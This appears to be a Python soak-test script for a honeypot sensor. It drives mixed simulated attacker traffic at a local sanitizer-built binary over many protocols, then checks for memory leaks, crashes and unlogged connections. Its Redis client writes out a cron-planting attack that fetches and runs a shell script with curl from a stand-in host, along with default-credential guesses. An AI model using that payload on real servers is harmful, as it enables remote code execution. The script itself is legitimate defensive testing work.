#!/usr/bin/python3
"""
soak.py - run a sanitizer-built sensor under a mixed, realistic load for a while
and check that nothing leaks, nothing crashes and no connection goes unrecorded.

    tools/soak.py [--bin build-san/hanipo] [--seconds 3600] [--rate 20] [--out build/soak]

`make soak [SOAK_SECONDS=3600] [SOAK_RATE=20]` builds the ASan+UBSan binary and runs this.

What it does:
  - starts one sensor (tests/integration/harness.py's Daemon: its own temporary
    directory, free ports of 127.0.0.1) with every protocol of etc/hanipo.ini,
    the four shell front-ends of the corpus replay (ssh and telnet, debian and
    busybox), the web engine (HTTP + TLS on one port) and a trap with TCP and
    UDP ports; ASan/UBSan reports go to files in the temporary directory
    (log_path), leak detection on, a small ASan quarantine so that RSS tracks
    the sensor's own memory;
  - for --seconds starts about --rate client sessions per second, drawn at
    random by weight from the kinds below, each from its own loopback address
    (127.x.y.z), at most --workers at a time (a session that would exceed it
    is skipped and counted, so the load never piles up on a slow machine):
      ssh / telnet   an attacker session of tests/corpus/ typed line by line
                     (tests/integration/cases_shell.py's replay)
      http           an exploit request of tests/corpus/http/ to the web port
                     or to a trap port (handed over to the web engine)
      tls            a TLS handshake and a GET over it (web port or trap port)
      ftp, smtp, mysql, pgsql, mssql, rdp, redis, mongodb, vnc, ami, smb,
      modbus, s7, adb, elm327, sip   a short credential / recon exchange as
                     scanners and bots do (impacket for SMB, pymongo for MongoDB)
      sip/udp, ssdp  one request datagram from a fresh UDP socket
      trap           random bytes to a TCP or UDP trap port
      garbage        random bytes to any TCP port of any service
  - every TCP connect() that succeeds towards the sensor (whatever library
    makes it: socket.socket.connect is wrapped) and every first datagram of a
    UDP socket is recorded with its source address and port;
  - samples VmRSS of the sensor (/proc/PID/status) every --rss-interval seconds
    into build/soak/rss.csv;
  - at the end stops the load, waits for the sessions to end, stops the sensor
    with SIGTERM and reads the JSONL events: each recorded connection must have
    exactly its session.connect (matched by source address, source port and
    destination port), and the sanitizer logs must be empty.

Prints a summary (duration, connections and events per service, missing
events, RSS start / at half time / peak / end and the growth and slope over
the second half, leaks with their first frames, sanitizer errors) and writes it
to build/soak/summary.txt.  Exit status 1 on any sanitizer error, leak,
missing session.connect, sensor exit other than a clean stop, or RSS growth
over the second half of the run beyond --rss-growth-mb (default 32 MiB: the
first half fills the bounded caches, e.g. the shell's per-source files, capped
here at [limits] shell_total_bytes = 8M).
"""
import argparse
import collections
import concurrent.futures
import glob
import json
import os
import random
import re
import signal
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
import weakref

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.abspath(os.path.join(HERE, ".."))
sys.path.insert(0, os.path.join(ROOT, "tests", "integration"))

SRC = threading.local()          # the source address of the session this thread runs


# ---- recording every connection the load makes ----------------------------------------

class Ledger:
    """Every TCP connection and UDP session made towards the sensor's ports."""

    def __init__(self):
        self.lock = threading.Lock()
        self.ports = {}              # (transport, port) -> service name
        self.made = []               # (service, transport, src_ip, src_port, dst_port, kind)
        self.udp_seen = weakref.WeakSet()   # UDP sockets already counted (id() is reused)

    def record(self, transport, sock, dst_port):
        svc = self.ports.get((transport, dst_port))
        if svc is None:
            return
        try:
            ip, port = sock.getsockname()[:2]
        except OSError:
            return
        with self.lock:
            self.made.append((svc, transport, ip, port, dst_port, getattr(SRC, "kind", "?")))


LEDGER = Ledger()
_real_connect = socket.socket.connect
_real_sendto = socket.socket.sendto
_real_send = socket.socket.send


def _bind_source(sock):
    src = getattr(SRC, "ip", None)
    if src and sock.family == socket.AF_INET:
        try:
            if sock.getsockname()[1] == 0:
                sock.bind((src, 0))
        except OSError:
            pass


def _connect(self, addr):
    if self.family == socket.AF_INET and isinstance(addr, tuple) and addr[0] == "127.0.0.1":
        _bind_source(self)
        _real_connect(self, addr)
        LEDGER.record("udp" if self.type == socket.SOCK_DGRAM else "tcp", self, addr[1])
        return None
    return _real_connect(self, addr)


def _sendto(self, data, *args):
    addr = args[-1]
    if self.family == socket.AF_INET and self.type == socket.SOCK_DGRAM and isinstance(addr, tuple) \
            and addr[0] == "127.0.0.1":
        _bind_source(self)
        with LEDGER.lock:
            first = self not in LEDGER.udp_seen
            LEDGER.udp_seen.add(self)
        n = _real_sendto(self, data, *args)
        if first:
            LEDGER.record("udp", self, addr[1])
        return n
    return _real_sendto(self, data, *args)


socket.socket.connect = _connect
socket.socket.sendto = _sendto


# ---- the sensor -------------------------------------------------------------------------

def make_services(Service, cases_shell):
    """Every protocol of etc/hanipo.ini, the corpus' four shell front-ends and a trap."""
    out = []
    for name, proto, _, opts in cases_shell.SERVICES:
        o = dict(opts)
        o.update({"auth_fail_delay": "0", "idle_timeout": "120s"})
        out.append(Service(name, protocol=proto, tcp=1, **o))
    for name, proto, tcp, udp in (
            ("ftp", "ftp", 1, 0), ("smtp", "smtp", 1, 0), ("mysql", "mysql", 1, 0),
            ("postgresql", "postgresql", 1, 0), ("mssql", "mssql", 1, 0), ("rdp", "rdp", 1, 0),
            ("redis", "redis", 1, 0), ("mongodb", "mongodb", 1, 0), ("vnc", "vnc", 1, 0),
            ("ami", "asterisk_ami", 1, 0), ("web", "http", 1, 0), ("sip", "sip", 1, 1),
            ("ssdp", "ssdp", 0, 1), ("smb", "smb", 2, 0), ("modbus", "modbus", 1, 0),
            ("s7", "s7comm", 1, 0), ("adb", "adb", 1, 0), ("elm327", "elm327", 1, 0),
            ("trap", "trap", 4, 2)):
        out.append(Service(name, protocol=proto, tcp=tcp, udp=udp))
    return out


def sanitizer_env(asan_dir):
    """ASan/UBSan options of the sensor: reports in files, leak detection, small quarantine."""
    opts = {
        "ASAN_OPTIONS": "detect_leaks=1:log_path=%s/asan:quarantine_size_mb=16:"
                        "malloc_context_size=20:abort_on_error=0" % asan_dir,
        "UBSAN_OPTIONS": "print_stacktrace=1:halt_on_error=1:log_path=%s/ubsan" % asan_dir,
        "LSAN_OPTIONS": "log_path=%s/lsan" % asan_dir,
    }
    for k, v in opts.items():
        os.environ[k] = v


def vmrss_kb(pid):
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except (OSError, ValueError):
        pass
    return None


# ---- the clients ------------------------------------------------------------------------

class Load:
    """The session kinds; each takes the sensor (harness.Daemon) and runs one session."""

    def __init__(self, d, harness, cases_shell, http_corpus, corpus_sessions):
        self.d = d
        self.h = harness
        self.cs = cases_shell
        self.http_corpus = http_corpus
        self.corpus = corpus_sessions
        self.tcp_all = [(s.name, p) for s in d.services for p in s.tcp_ports]
        self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.ctx.check_hostname = False
        self.ctx.verify_mode = ssl.CERT_NONE
        self.T = harness.T

    def port(self, name, i=None):
        s = self.d.svc(name)
        return s.tcp_ports[i] if i is not None else random.choice(s.tcp_ports)

    def conn(self, port, timeout=10):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(self.T(timeout))
        s.connect(("127.0.0.1", port))
        return s

    @staticmethod
    def drain(s, limit=1 << 20, quiet=1.0):
        """Read what comes until EOF, `limit` bytes, or `quiet` seconds of silence."""
        out = b""
        s.settimeout(quiet)
        try:
            while len(out) < limit:
                b = s.recv(65536)
                if not b:
                    break
                out += b
        except (socket.timeout, OSError):
            pass
        return out

    def exchange(self, port, chunks, quiet=1.0):
        """Connect, send each chunk and read the answer to it, close."""
        s = self.conn(port)
        try:
            self.drain(s, quiet=0.3)                    # a banner, if any
            for c in chunks:
                s.sendall(c)
                self.drain(s, quiet=quiet)
        finally:
            s.close()

    # -- shells
    def ssh(self):
        sess = random.choice([x for x in self.corpus if "ssh" in x.via] or self.corpus)
        rep = self.cs.replay_ssh(self.d.svc("ssh-%s" % sess.personality).port, sess, SRC.ip)
        if rep.error:
            raise RuntimeError(rep.error)

    def telnet(self):
        sess = random.choice([x for x in self.corpus if "telnet" in x.via] or self.corpus)
        name = "tel-busybox" if sess.personality == "busybox" else "tel-linux"
        rep = self.cs.replay_telnet(self.d.svc(name).port, sess, SRC.ip)
        if rep.error:
            raise RuntimeError(rep.error)

    # -- web
    def http(self):
        _, _, raw = random.choice(self.http_corpus)
        port = self.port("web") if random.random() < 0.7 else self.port("trap")
        s = self.conn(port)
        try:
            s.sendall(raw)
            self.drain(s, quiet=2.0)
        finally:
            s.close()

    def tls(self):
        port = self.port("web") if random.random() < 0.6 else self.port("trap")
        s = self.conn(port)
        try:
            t = self.ctx.wrap_socket(s, server_hostname=random.choice(["localhost", "router.lan", None]))
            t.sendall(b"GET /%s HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n"
                      b"Connection: close\r\n\r\n" % random.choice([b"", b"admin", b".env", b"cgi-bin/luci"]))
            self.drain(t, quiet=2.0)
            t.close()
        finally:
            s.close()

    # -- credential services
    def ftp(self):
        self.exchange(self.port("ftp"), [b"USER anonymous\r\n", b"PASS guest@example.com\r\n", b"SYST\r\n",
                                         b"PWD\r\n", b"CWD /pub\r\n", b"USER admin\r\n", b"PASS admin\r\n",
                                         b"QUIT\r\n"], quiet=0.5)

    def smtp(self):
        self.exchange(self.port("smtp"), [b"EHLO scanner.example.net\r\n", b"AUTH LOGIN\r\n",
                                          b"YWRtaW4=\r\n", b"cGFzc3dvcmQ=\r\n",
                                          b"MAIL FROM:<spam@example.net>\r\n",
                                          b"RCPT TO:<victim@example.org>\r\n", b"QUIT\r\n"], quiet=0.5)

    def mysql(self):
        s = self.conn(self.port("mysql"))
        try:
            greeting = self.drain(s, quiet=1.0)
            if len(greeting) < 5:
                return
            user = random.choice([b"root", b"admin", b"mysql"])
            body = struct.pack("<IIB23x", 0x000aa285, 1 << 24, 33) + user + b"\0" + b"\x14" + os.urandom(20) \
                + b"mysql_native_password\0"
            s.sendall(struct.pack("<I", len(body))[:3] + b"\x01" + body)
            reply = self.drain(s, quiet=1.0)
            if reply[4:5] == b"\x00":
                q = b"\x03select @@version_comment limit 1"
                s.sendall(struct.pack("<I", len(q))[:3] + b"\x00" + q)
                self.drain(s, quiet=1.0)
        finally:
            s.close()

    def pgsql(self):
        params = b"user\0postgres\0database\0postgres\0\0"
        start = struct.pack(">II", 8 + len(params), 196608) + params
        pw = b"postgres\0"
        self.exchange(self.port("postgresql"), [start, b"p" + struct.pack(">I", 4 + len(pw)) + pw])

    def mssql(self):
        # TDS PRELOGIN: VERSION, ENCRYPTION (off), INSTOPT, THREADID, terminator
        opts = [(0, bytes([15, 0, 0x07, 0xd0, 0, 0])), (1, b"\x02"), (2, b"\x00"), (3, os.urandom(4))]
        off = 5 * len(opts) + 1
        head, body = b"", b""
        for tok, val in opts:
            head += struct.pack(">BHH", tok, off + len(body), len(val))
            body += val
        payload = head + b"\xff" + body
        pkt = struct.pack(">BBHHBB", 0x12, 1, 8 + len(payload), 0, 1, 0) + payload
        self.exchange(self.port("mssql"), [pkt])

    def rdp(self):
        from cases_rdp import cr
        self.exchange(self.port("rdp"), [cr(b"Cookie: mstshash=Administr\r\n", 3)])

    def redis(self):
        cmds = [["INFO"], ["AUTH", random.choice(["foobared", "redis", "123456"])],
                ["CONFIG", "SET", "dir", "/var/spool/cron"], ["CONFIG", "SET", "dbfilename", "root"],
                ["SET", "x", "\n*/1 * * * * curl -fsSL http://198.51.100.7/x.sh | sh\n"], ["SAVE"],
                ["SLAVEOF", "198.51.100.7", "6379"], ["QUIT"]]
        enc = []
        for c in cmds:
            b = b"*%d\r\n" % len(c) + b"".join(b"$%d\r\n%s\r\n" % (len(a.encode()), a.encode()) for a in c)
            enc.append(b)
        self.exchange(self.port("redis"), enc, quiet=0.5)

    def mongodb(self):
        import pymongo
        c = pymongo.MongoClient("127.0.0.1", self.port("mongodb"), directConnection=True,
                                serverSelectionTimeoutMS=int(self.T(5) * 1000), connectTimeoutMS=5000,
                                socketTimeoutMS=5000, appname=random.choice(["ransom", "scanner"]))
        try:
            for name in c.list_database_names():
                c[name].list_collection_names()
                break
        except pymongo.errors.PyMongoError:
            pass
        finally:
            c.close()

    def vnc(self):
        s = self.conn(self.port("vnc"))
        try:
            v = self.drain(s, quiet=1.0)
            s.sendall(v[:12] if v.startswith(b"RFB ") else b"RFB 003.008\n")
            types = self.drain(s, quiet=1.0)
            if types[:1] not in (b"", b"\0"):
                s.sendall(b"\x02")
                if len(self.drain(s, quiet=1.0)) >= 16:
                    s.sendall(os.urandom(16))
                    self.drain(s, quiet=1.0)
        finally:
            s.close()

    def ami(self):
        self.exchange(self.port("ami"), [b"Action: Login\r\nUsername: admin\r\nSecret: amp111\r\n\r\n",
                                         b"Action: Command\r\nCommand: core show version\r\n\r\n",
                                         b"Action: Logoff\r\n\r\n"], quiet=0.5)

    def smb(self):
        from impacket.smbconnection import SMBConnection, SMB_DIALECT
        kw = {"preferredDialect": SMB_DIALECT} if random.random() < 0.3 else {}
        c = SMBConnection("127.0.0.1", "127.0.0.1", sess_port=self.port("smb"), timeout=self.T(10), **kw)
        try:
            c.login(random.choice(["administrator", "guest", "admin"]), random.choice(["", "123456", "P@ssw0rd"]),
                    "WORKGROUP")
            c.listShares()
            c.logoff()
        finally:
            c.close()

    def modbus(self):
        def mbap(tid, pdu):
            return struct.pack(">HHHB", tid, 0, len(pdu) + 1, 1) + pdu
        self.exchange(self.port("modbus"), [mbap(1, b"\x11"), mbap(2, b"\x03\x00\x00\x00\x10"),
                                            mbap(3, b"\x2b\x0e\x01\x00")])

    def s7(self):
        from cases_ics import tpkt
        cr = tpkt(bytes.fromhex("11e00000000100c0010ac1020100c2020102"))
        setup = tpkt(bytes.fromhex("02f080320100000000000800000f00000100010001e0"))
        szl = tpkt(bytes.fromhex("02f080320700000000000800080001120411440100ff09000400110001"))
        self.exchange(self.port("s7"), [cr, setup, szl])

    def adb(self):
        from cases_adb import msg
        self.exchange(self.port("adb"), [msg(b"CNXN", 0x01000000, 4096, b"host::\0"),
                                         msg(b"OPEN", 1, 0, b"shell:uname -a; cat /proc/cpuinfo\0")])

    def elm327(self):
        self.exchange(self.port("elm327"), [b"ATZ\r", b"ATI\r", b"0100\r", b"0902\r"], quiet=0.5)

    def sip_tcp(self):
        from cases_udpiot import sip_request
        self.exchange(self.port("sip"), [sip_request("OPTIONS", ua="friendly-scanner")], quiet=1.0)

    # -- UDP
    def udp(self, port, data):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.settimeout(1.0)
            s.sendto(data, ("127.0.0.1", port))
            try:
                s.recvfrom(65536)
            except (socket.timeout, OSError):
                pass
        finally:
            s.close()

    def sip_udp(self):
        from cases_udpiot import sip_request
        method = random.choice(["OPTIONS", "REGISTER", "INVITE"])
        self.udp(self.d.svc("sip").uport, sip_request(method, user=str(random.randint(100, 999)),
                                                       ua=random.choice(["friendly-scanner", "sipvicious",
                                                                         "VaxSIPUserAgent/3.1"])))

    def ssdp(self):
        from cases_udpiot import MSEARCH
        self.udp(self.d.svc("ssdp").uport, MSEARCH)

    # -- trap and garbage
    def trap(self):
        if random.random() < 0.25:
            self.udp(random.choice(self.d.svc("trap").udp_ports), os.urandom(random.randint(1, 512)))
            return
        s = self.conn(self.port("trap"))
        try:
            s.sendall(os.urandom(random.randint(1, 4096)))
            self.drain(s, quiet=0.5)
        finally:
            s.close()

    def garbage(self):
        _, port = random.choice(self.tcp_all)
        s = self.conn(port)
        try:
            self.drain(s, quiet=0.2)
            for _ in range(random.randint(1, 4)):
                s.sendall(random.choice([os.urandom(random.randint(1, 2048)),
                                         b"\xff" * random.randint(1, 300),
                                         b"\x00" * random.randint(1, 300),
                                         b"A" * random.randint(1, 9000) + b"\r\n"]))
                self.drain(s, quiet=0.2)
        except OSError:
            pass                      # the service closing on garbage is fine
        finally:
            s.close()


# kind -> relative weight (sessions per second at --rate 20 is about 20 * weight / total)
WEIGHTS = collections.OrderedDict([
    ("ssh", 1.0), ("telnet", 1.5), ("http", 3.0), ("tls", 1.5), ("ftp", 0.8), ("smtp", 0.6),
    ("mysql", 0.8), ("pgsql", 0.5), ("mssql", 0.5), ("rdp", 0.5), ("redis", 0.8), ("mongodb", 0.5),
    ("vnc", 0.5), ("ami", 0.4), ("smb", 0.5), ("modbus", 0.4), ("s7", 0.4), ("adb", 0.4),
    ("elm327", 0.3), ("sip_tcp", 0.3), ("sip_udp", 0.8), ("ssdp", 0.4), ("trap", 1.5), ("garbage", 2.0),
])


# ---- the run ---------------------------------------------------------------------------

def source_ip(n, sources):
    """The n-th session's source address; with `sources`, one of that many addresses."""
    if sources:
        n = n % sources
    return "127.%d.%d.%d" % (100 + (n // 65024) % 100, (n // 254) & 255, 1 + n % 254)


def drive(load, seconds, rate, workers, rss, pid, rss_interval, kinds, sources):
    """Start sessions at `rate` per second for `seconds`; sample RSS; returns the counters."""
    started = collections.Counter()
    errors = collections.Counter()
    first_error = {}
    skipped = [0]
    running = [0]
    lock = threading.Lock()

    def run(kind, n):
        SRC.ip = source_ip(n, sources)
        SRC.kind = kind
        try:
            getattr(load, kind)()
        except Exception as e:                                   # noqa: B902 - counted, reported
            with lock:
                errors[kind] += 1
                first_error.setdefault(kind, "%s: %s" % (type(e).__name__, str(e)[:200]))
        finally:
            with lock:
                running[0] -= 1

    weights = [WEIGHTS[k] for k in kinds]
    t0 = time.monotonic()
    next_rss = t0
    n = 0
    with concurrent.futures.ThreadPoolExecutor(max_workers=workers) as ex:
        while True:
            now = time.monotonic()
            if now >= next_rss:
                kb = vmrss_kb(pid)
                if kb is None:
                    break                                        # the sensor is gone
                rss.append((round(now - t0, 1), kb))
                next_rss += rss_interval
            if now - t0 >= seconds:
                break
            kind = random.choices(kinds, weights)[0]
            with lock:
                busy = running[0] >= workers
                if not busy:
                    running[0] += 1
            if busy:
                skipped[0] += 1
            else:
                started[kind] += 1
                n += 1
                ex.submit(run, kind, n)
            # Poisson arrivals at `rate` per second
            time.sleep(min(random.expovariate(rate), 1.0))
    return started, errors, first_error, skipped[0], time.monotonic() - t0


def slope_mb_per_h(points):
    """Least-squares slope of (seconds, KiB) points, in MiB per hour."""
    if len(points) < 3:
        return 0.0
    n = float(len(points))
    mx = sum(p[0] for p in points) / n
    my = sum(p[1] for p in points) / n
    sxx = sum((p[0] - mx) ** 2 for p in points)
    if sxx == 0:
        return 0.0
    sxy = sum((p[0] - mx) * (p[1] - my) for p in points)
    return sxy / sxx * 3600.0 / 1024.0


FRAME_RE = re.compile(r"^\s*#\d+ ")


def read_sanitizer_logs(asan_dir, stderr_text, symbolize):
    """(leak reports, error reports): each a (title, first frames) pair."""
    texts = []
    for p in sorted(glob.glob(os.path.join(asan_dir, "*"))):
        try:
            with open(p, "rb") as f:
                texts.append(f.read().decode("utf-8", "replace"))
        except OSError:
            pass
    if "Sanitizer" in stderr_text or "runtime error:" in stderr_text:
        texts.append(stderr_text)
    leaks, errors = [], []
    for text in texts:
        text = symbolize(text)
        lines = text.splitlines()
        for i, line in enumerate(lines):
            leak = re.search(r"(Direct|Indirect) leak of (\d+) byte", line)
            err = ("ERROR: AddressSanitizer" in line or "runtime error:" in line
                   or ("ERROR: LeakSanitizer" in line and "detected memory leaks" not in line))
            if not leak and not err:
                continue
            frames = []
            for l2 in lines[i + 1:i + 40]:
                if FRAME_RE.match(l2):
                    frames.append(l2.strip())
                    if len(frames) >= 6:
                        break
                elif frames and not l2.strip():
                    break
            (leaks if leak else errors).append((line.strip(), frames))
    return leaks, errors


def main(argv):
    ap = argparse.ArgumentParser(description="soak the sensor under a mixed load (see the file's comment)")
    ap.add_argument("--bin", default=os.path.join(ROOT, "build-san", "hanipo"))
    ap.add_argument("--seconds", type=float, default=float(os.environ.get("SOAK_SECONDS", 3600)))
    ap.add_argument("--rate", type=float, default=float(os.environ.get("SOAK_RATE", 20)),
                    help="sessions started per second (default 20)")
    ap.add_argument("--workers", type=int, default=32, help="sessions at once at most (default 32)")
    ap.add_argument("--rss-interval", type=float, default=None, help="seconds between RSS samples")
    ap.add_argument("--rss-growth-mb", type=float, default=32.0,
                    help="RSS growth allowed over the second half of the run, MiB (default 32)")
    ap.add_argument("--kinds", default="", help="comma-separated session kinds (default: all; '-ssh,-telnet': all but)")
    ap.add_argument("--sources", type=int, default=0,
                    help="source addresses to cycle through (default 0: a new one per session)")
    ap.add_argument("--daemon-env", action="append", default=[], metavar="NAME=VALUE",
                    help="extra environment of the sensor only (e.g. LD_PRELOAD of a heap profiler)")
    ap.add_argument("--out", default=os.path.join(ROOT, "build", "soak"))
    ap.add_argument("--keep", action="store_true", help="keep the sensor's temporary directory")
    args = ap.parse_args(argv)
    os.environ["HANIPO_BIN"] = os.path.abspath(args.bin)
    os.environ["HANIPO_SANITIZED"] = "1"
    if not os.access(args.bin, os.X_OK):
        print("soak: %s is missing (make soak builds it)" % args.bin)
        return 2
    import harness                                   # noqa: E402 (reads HANIPO_BIN at import)
    import cases_shell                               # noqa: E402
    import cases_http                                # noqa: E402
    kinds = list(WEIGHTS)
    for k in [x.strip() for x in args.kinds.split(",") if x.strip()]:
        name = k.lstrip("-")
        if name not in WEIGHTS:
            print("soak: unknown kind %r (kinds: %s)" % (name, ", ".join(WEIGHTS)))
            return 2
        if k.startswith("-"):
            kinds.remove(name)
    wanted = [k for k in args.kinds.split(",") if k.strip() and not k.strip().startswith("-")]
    if wanted:
        kinds = [k.strip() for k in wanted]
    rss_interval = args.rss_interval or max(2.0, min(30.0, args.seconds / 60.0))
    os.makedirs(args.out, exist_ok=True)

    d = harness.Daemon("soak", make_services(harness.Service, cases_shell),
                       limits={"max_per_source": 256, "max_connections": 4096,
                               "stats_interval": "60s", "shell_total_bytes": "8M"})
    # Inside data_dir: the sensor's Landlock rules let it write nowhere else, and it
    # writes there after dropping to nobody.
    asan_dir = os.path.join(d.data_dir, "sanitizer")
    os.makedirs(asan_dir)
    os.chmod(d.data_dir, 0o755)
    os.chmod(asan_dir, 0o1777)
    sanitizer_env(asan_dir)
    userdb = os.path.join(d.tmp, "userdb.txt")
    with open(userdb, "w") as f:
        f.write("root:x:*\n")
    os.chmod(userdb, 0o644)
    for s in d.services:
        if s.protocol in ("ssh", "telnet"):
            s.opts["userdb"] = userdb
    summary = []

    def out(line=""):
        print(line)
        summary.append(line)
    failures = []
    rss = []
    try:
        saved = {}
        for kv in args.daemon_env:                    # the sensor's environment only, not the clients'
            k, _, v = kv.partition("=")
            saved[k] = os.environ.get(k)
            os.environ[k] = v
        try:
            d.start(timeout=harness.T(30))
        finally:
            for k, v in saved.items():
                if v is None:
                    os.environ.pop(k, None)
                else:
                    os.environ[k] = v
        for s in d.services:
            for p in s.tcp_ports:
                LEDGER.ports[("tcp", p)] = s.name
            for p in s.udp_ports:
                LEDGER.ports[("udp", p)] = s.name
        load = Load(d, harness, cases_shell, cases_http.load_corpus(), cases_shell.load_corpus())
        print("soak: sensor pid %d (%s) in %s; %.0f s at %.0f sessions/s" % (
            d.pid, args.bin, d.tmp, args.seconds, args.rate), flush=True)
        started, errors, first_error, skipped, took = drive(load, args.seconds, args.rate, args.workers,
                                                            rss, d.pid, rss_interval, kinds, args.sources)
        # let the last sessions end (the pool has been joined), then a last sample
        kb = vmrss_kb(d.pid)
        if kb is not None:
            rss.append((round(took, 1), kb))
        alive = d.alive()
        if not alive:
            failures.append("the sensor died during the run (status %s)" % d.proc.poll())
        rc = None
        if alive:
            d.proc.send_signal(signal.SIGTERM)
            try:
                rc = d.proc.wait(harness.T(60))
            except subprocess.TimeoutExpired:
                failures.append("the sensor did not stop within %.0f s of SIGTERM" % harness.T(60))
                d.kill()
            d._close_stderr()
        if rc not in (None, 0):
            failures.append("the sensor exited with status %s after SIGTERM" % rc)
        events = d.events()
    except Exception:
        print(d.describe())
        d.kill()
        raise

    # ---- connections vs events
    connects = {}
    ev_by_svc = collections.defaultdict(collections.Counter)
    for e in events:
        svc = e.get("service", "-")
        ev_by_svc[svc][e.get("eventid", "?")] += 1
        if e.get("eventid") == "session.connect":
            key = (e.get("transport"), e.get("src_ip"), e.get("src_port"), e.get("dst_port"))
            connects[key] = connects.get(key, 0) + 1
    made_by_svc = collections.Counter()
    missing = collections.defaultdict(list)
    for svc, transport, ip, port, dport, kind in LEDGER.made:
        made_by_svc[svc] += 1
        key = (transport, ip, port, dport)
        if connects.get(key, 0) > 0:
            connects[key] -= 1
        else:
            missing[svc].append("%s %s:%d -> %d (%s)" % (transport, ip, port, dport, kind))
    extra = sum(v for v in connects.values() if v > 0)
    extra_keys = [k for k, v in connects.items() if v > 0]

    out("soak: %.0f s, %d sessions started (%.1f/s), %d skipped (all %d workers busy), binary %s" % (
        took, sum(started.values()), sum(started.values()) / max(took, 1), skipped, args.workers, args.bin))
    out("")
    out("%-12s %8s %8s %8s %8s" % ("kind", "started", "errors", "", ""))
    for k in WEIGHTS:
        out("%-12s %8d %8d   %s" % (k, started[k], errors[k], first_error.get(k, "")))
    out("")
    out("%-12s %11s %15s %8s %8s" % ("service", "connections", "session.connect", "missing", "events"))
    total_made = total_conn = total_missing = total_ev = 0
    for s in d.services:
        n_conn = ev_by_svc[s.name]["session.connect"]
        n_ev = sum(ev_by_svc[s.name].values())
        out("%-12s %11d %15d %8d %8d" % (s.name, made_by_svc[s.name], n_conn, len(missing[s.name]), n_ev))
        total_made += made_by_svc[s.name]
        total_conn += n_conn
        total_missing += len(missing[s.name])
        total_ev += n_ev
    out("%-12s %11d %15d %8d %8d" % ("total", total_made, total_conn, total_missing, total_ev))
    out("events: %d in all (%d sensor-wide), session.connect without a recorded connection: %d" % (
        len(events), sum(ev_by_svc["-"].values()), extra))
    for k in extra_keys[:5]:
        out("  session.connect without a connection: %s %s:%s -> %s" % k)
    top = collections.Counter()
    for c in ev_by_svc.values():
        top.update(c)
    out("event types: " + ", ".join("%s %d" % kv for kv in top.most_common(25)))
    if total_missing:
        failures.append("%d connections have no session.connect" % total_missing)
        for svc, lst in missing.items():
            for m in lst[:5]:
                out("  missing: %s %s" % (svc, m))

    # ---- RSS
    csv = os.path.join(args.out, "rss.csv")
    with open(csv, "w") as f:
        f.write("seconds,vmrss_kib\n")
        for t, kb in rss:
            f.write("%s,%d\n" % (t, kb))
    if rss:
        # Caches fill during the first half (the shell's per-source files, login gates, the
        # allocator's size classes); what still grows in the second half is what leaks.
        half = [p for p in rss if p[0] >= took / 2] or rss[-1:]
        start, mid, peak, end = rss[0][1], half[0][1], max(kb for _, kb in rss), rss[-1][1]
        slope = slope_mb_per_h(half)
        growth = (end - mid) / 1024.0
        out("")
        out("RSS (MiB): start %.1f, at %.0f s %.1f, peak %.1f, end %.1f; second half: growth %+.1f MiB, "
            "slope %+.1f MiB/h over %d samples; series in %s" % (
                start / 1024.0, half[0][0], mid / 1024.0, peak / 1024.0, end / 1024.0, growth, slope,
                len(half), csv))
        if growth > args.rss_growth_mb:
            failures.append("RSS grew by %.1f MiB in the second half (limit %.0f)" % (growth, args.rss_growth_mb))

    # ---- sanitizers
    leaks, errs = read_sanitizer_logs(asan_dir, d.stderr(), harness.symbolize)
    out("")
    out("leaks: %d reports; sanitizer errors: %d" % (len(leaks), len(errs)))
    for title, frames in (errs + leaks)[:12]:
        out("  " + title)
        for fr in frames:
            out("      " + fr)
    if leaks:
        failures.append("%d leak reports" % len(leaks))
    if errs:
        failures.append("%d sanitizer errors" % len(errs))

    out("")
    out("soak: " + ("FAILED: " + "; ".join(failures) if failures else "clean"))
    with open(os.path.join(args.out, "summary.txt"), "w") as f:
        f.write("\n".join(summary) + "\n")
    if failures or args.keep:
        print("soak: sensor directory kept: %s" % d.tmp)
    else:
        d.cleanup()
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
